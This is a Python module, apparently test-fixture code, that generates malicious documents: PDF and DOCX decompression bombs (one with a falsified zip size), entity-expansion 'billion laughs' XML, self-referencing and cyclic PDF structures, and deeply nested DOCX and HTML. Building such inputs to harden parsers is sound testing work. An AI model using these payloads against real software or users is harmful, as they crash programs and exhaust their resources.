"""Files made to do harm: PDFs written object by object, Word and HTML bombs. Each function returns the bytes."""

from __future__ import annotations

import io
import zipfile
import zlib

FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>"
TEXT = b"BT /F 12 Tf 72 700 Td (1. A paragraph that stands here alone.) Tj ET"
MEBIBYTE = 1 << 20


def raw_pdf(objects: list[bytes], header: bytes = b"%PDF-1.7\n") -> bytes:
    """Return a PDF of these objects, the first of which is the catalogue."""
    body, places = bytearray(header), []
    for number, text in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    tail = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(body))
    return bytes(body) + head + table + tail


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """Return a stream object's text."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def one_page(
    content: bytes = TEXT,
    filters: bytes = b"",
    *,
    media: bytes = b"[0 0 600 800]",
    resources: bytes = b"",
    catalogue: bytes = b"",
    page: bytes = b"",
    more: tuple[bytes, ...] = (),
) -> bytes:
    """Return a PDF of one page; ``more`` are objects from 5 on."""
    return raw_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R%s/Resources<</Font<</F %s>>%s>>>>"
            % (media, page, FONT, resources),
            stream(content, filters),
            *more,
        ]
    )


def deflated(unit: bytes, times: int) -> bytes:
    """Return the zlib stream of ``unit`` repeated, made without compressing all of it."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    first = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.compress(b"") + packer.flush()
    checksum = 1
    for _ in range(times):
        checksum = zlib.adler32(unit, checksum)
    return head + first + again * (times - 1) + end[:-4] + checksum.to_bytes(4, "big")


def bomb(unit: bytes, megabytes: int, *, twice: bool = False, entries: bytes = b"") -> bytes:
    """Return a page whose content unpacks to ``megabytes`` of ``unit``."""
    packed = deflated((unit * (MEBIBYTE // len(unit) + 1))[: MEBIBYTE // len(unit) * len(unit)], megabytes)
    if twice:
        return one_page(zlib.compress(packed, 9), b"/Filter[/FlateDecode/FlateDecode]" + entries)
    return one_page(packed, b"/Filter/FlateDecode" + entries)


def laughing_forms(breadth: int, depth: int) -> bytes:
    """Return a page whose forms each paint the next ``breadth`` times: ``breadth ** depth`` words."""
    forms = [
        stream(
            b"/X Do " * breadth,
            b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X %d 0 R>>>>" % (6 + k),
        )
        for k in range(depth)
    ]
    last = stream(TEXT, b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</Font<</F %s>>>>" % FONT)
    return one_page(b"/X Do", resources=b"/XObject<</X 5 0 R>>", more=(*forms, last))


def recursive_form() -> bytes:
    """Return a page whose form paints itself, twice."""
    form = stream(
        TEXT + b" /X Do /X Do",
        b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X 5 0 R>>/Font<</F %s>>>>"
        % FONT,
    )
    return one_page(b"/X Do /X Do", resources=b"/XObject<</X 5 0 R>>", more=(form,))


def deep_outline(depth: int = 20_000) -> bytes:
    """Return a page with an outline nested ``depth`` deep."""
    items = tuple(
        b"<</Title(x)/Parent %d 0 R/First %d 0 R/Last %d 0 R/Count 1>>" % (k - 1, k + 1, k + 1)
        for k in range(6, 6 + depth)
    )
    root = b"<</Type/Outlines/First 6 0 R/Last 6 0 R/Count 1>>"
    return one_page(catalogue=b"/Outlines 5 0 R", more=(root, *items))


def deep_page_tree(depth: int = 20_000) -> bytes:
    """Return a page under ``depth`` nodes of the page tree."""
    nodes = [
        b"<</Type/Pages/Kids[%d 0 R]/Count 1%s>>" % (k + 1, b"/Parent %d 0 R" % (k - 1) if k > 2 else b"")
        for k in range(2, 2 + depth)
    ]
    leaf = 2 + depth
    page = (
        b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 600 800]/Contents %d 0 R/Resources<</Font<</F %s>>>>>>"
        % (leaf - 1, leaf + 1, FONT)
    )
    return raw_pdf([b"<</Type/Catalog/Pages 2 0 R>>", *nodes, page, stream(TEXT)])


def cyclic_page_tree(count: int = 90_000) -> bytes:
    """Return a page tree that bites its own tail."""
    return raw_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % count,
            b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R 2 0 R]/Count %d>>" % count,
        ]
    )


def same_page_often(pages: int, content: bytes) -> bytes:
    """Return a document that shows one page's content on ``pages`` pages."""
    kids = b" ".join(b"%d 0 R" % k for k in range(4, 4 + pages))
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 3 0 R/Resources<</Font<</F %s>>>>>>" % FONT
    )
    return raw_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages),
            stream(zlib.compress(content, 9), b"/Filter/FlateDecode"),
            *[page] * pages,
        ]
    )


def deep_arrays(depth: int) -> bytes:
    """Return a page whose resources hold an array nested ``depth`` deep."""
    return one_page(resources=b"/Deep " + b"[" * depth + b"]" * depth)


def docx_bomb(megabytes: int = 1_000, *, lie: bool = False) -> bytes:
    """Return a DOCX whose document part unpacks to ``megabytes``; ``lie``: its directory states 1,000 bytes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        _put_word_parts(package)
        with package.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(megabytes):
                part.write(b" " * MEBIBYTE)
    raw = bytearray(made.getvalue())
    if lie:
        entry = raw.rindex(b"PK\x01\x02")
        raw[entry + 24 : entry + 28] = (1000).to_bytes(4, "little")
    return bytes(raw)


W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(document: bytes) -> bytes:
    """Return a DOCX with this document part."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        _put_word_parts(package)
        package.writestr("word/document.xml", document)
    return made.getvalue()


def nested_docx(depth: int) -> bytes:
    """Return a DOCX with text inside ``depth`` content controls."""
    opening, closing = b"<w:sdt><w:sdtContent>" * depth, b"</w:sdtContent></w:sdt>" * depth
    text = b"<w:p><w:r><w:t>1. A paragraph that stands here.</w:t></w:r></w:p>"
    return docx(b"<w:document %s><w:body>%s%s%s</w:body></w:document>" % (W, opening, text, closing))


def laughing_docx() -> bytes:
    """Return a DOCX whose document part defines entities that grow tenfold nine times."""
    entities = b"".join(
        b'<!ENTITY e%d "%s">' % (k, b"&e%d;" % (k - 1) * 10 if k else b"ha") for k in range(10)
    )
    return docx(
        b"<!DOCTYPE w [%s]><w:document %s><w:body><w:p><w:r><w:t>&e9;</w:t></w:r></w:p></w:body></w:document>"
        % (entities, W)
    )


def _put_word_parts(package: zipfile.ZipFile) -> None:
    package.writestr(
        "[Content_Types].xml",
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    )
    package.writestr(
        "_rels/.rels",
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>',
    )


def nested_html(depth: int, tag: bytes = b"div") -> bytes:
    """Return a page with text inside ``depth`` elements."""
    return b"<!DOCTYPE html><html><body>%s<p>1. A paragraph that stands here.</p>%s</body></html>" % (
        b"<%s>" % tag * depth,
        b"</%s>" % tag * depth,
    )
